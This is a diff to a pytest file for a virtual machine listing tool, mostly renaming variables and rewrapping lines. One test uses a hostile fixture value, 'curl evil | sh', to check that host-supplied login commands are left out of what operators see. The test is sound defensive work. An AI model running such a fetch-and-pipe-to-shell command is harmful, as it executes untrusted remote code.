@@ -121,15 +121,17 @@ def look(host=None, sort=None, limit=None, offset=0, stream=False, **vms):
     ],
 )
 def test_query_and_list_show_the_same_vms(hosts, cloud, options, expected):
-    queried = listing.query(cloud, look(**options))
-    listed = listing.listed(cloud, look(**options))
+    query_answer = listing.query(cloud, look(**options))
+    list_answer = listing.listed(cloud, look(**options))
 
-    assert {host: sorted(info["vm_info"]) for host, info in queried.items()} == expected
+    assert {host: sorted(info["vm_info"]) for host, info in query_answer.items()} == expected
     assert {
-        host: sorted(sum(names_by_state.values(), [])) for host, names_by_state in listed.items()
+        host: sorted(sum(names_by_state.values(), []))
+        for host, names_by_state in list_answer.items()
     } == expected
     assert all(
-        set(info) == {"freecpu", "freemem", "node_info", "vm_info"} for info in queried.values()
+        set(info) == {"freecpu", "freemem", "node_info", "vm_info"}
+        for info in query_answer.values()
     )
 
 
@@ -138,17 +140,22 @@ def test_only_the_chosen_fields_are_shown(hosts, cloud):
 
     assert answer["hyper2"]["vm_info"] == {"web3": {"state": "running", "mem": 1}}
     assert answer["hyper3"]["vm_info"] == {}
-    few = listing.host_info(cloud, look(fields=["memory"], known=listing.HOST_FIELDS))
-    assert {tuple(info) for info in few.values()} == {("memory",)}
+    answer_with_few_fields = listing.host_info(
+        cloud, look(fields=["memory"], known=listing.HOST_FIELDS)
+    )
+    assert {tuple(info) for info in answer_with_few_fields.values()} == {("memory",)}
 
 
 @pytest.mark.parametrize("options", [{}, {"name": "web*"}, {"stream": True}])
 def test_login_commands_of_hosts_are_left_out(hosts, cloud, monkeypatch, options):
     """An operator would type it: virt.vm_info shows a command that the master makes."""
-    full, hostile_fields = hosts._full_info, {"login": "curl evil | sh", "addresses": ["192.0.2.1"]}
+    original_full_info, hostile_fields = (
+        hosts._full_info,
+        {"login": "curl evil | sh", "addresses": ["192.0.2.1"]},
+    )
 
     def lying(host):
-        full_answer = full(host)
+        full_answer = original_full_info(host)
         return {
             **full_answer,
             "vm_info": {
@@ -223,13 +230,13 @@ def test_a_filter_hides_no_duplicate_and_forgets_no_last_seen_vm(hosts, cloud, o
 
 
 def test_a_host_that_claims_all_vms_causes_one_question_only(hosts, cloud, monkeypatch):
-    many = {f"vm{number:03}": "running" for number in range(300)}
+    many_vms = {f"vm{number:03}": "running" for number in range(300)}
     for host in ("hyper1", "hyper3"):
-        monkeypatch.setitem(STATES, host, many)
+        monkeypatch.setitem(STATES, host, many_vms)
 
     answer = listing.listed(cloud, look())
 
-    assert answer["duplicates"] == dict.fromkeys(many, ["hyper1", "hyper3"])
+    assert answer["duplicates"] == dict.fromkeys(many_vms, ["hyper1", "hyper3"])
     assert len(hosts.asked) <= 21
 
 
@@ -331,9 +338,9 @@ def test_an_error_names_some_of_a_thousand_hypervisors(opts):
         BadArgument, match=f"there are: {shown_names}; if it is to be one, run: salt-run"
     ):
         inventory.narrow(master, host_names, host="h1")
-    silent = inventory.Survey(answers={}, unreachable=host_names).no_answers_error()
-    assert str(silent).endswith("; h0009: does not answer and 990 more")
-    assert silent.table == {"unreachable": host_names}
+    no_answers_error = inventory.Survey(answers={}, unreachable=host_names).no_answers_error()
+    assert str(no_answers_error).endswith("; h0009: does not answer and 990 more")
+    assert no_answers_error.table == {"unreachable": host_names}
 
 
 @pytest.mark.parametrize("fields", [vmfilter.FIELDS, listing.HOST_FIELDS])
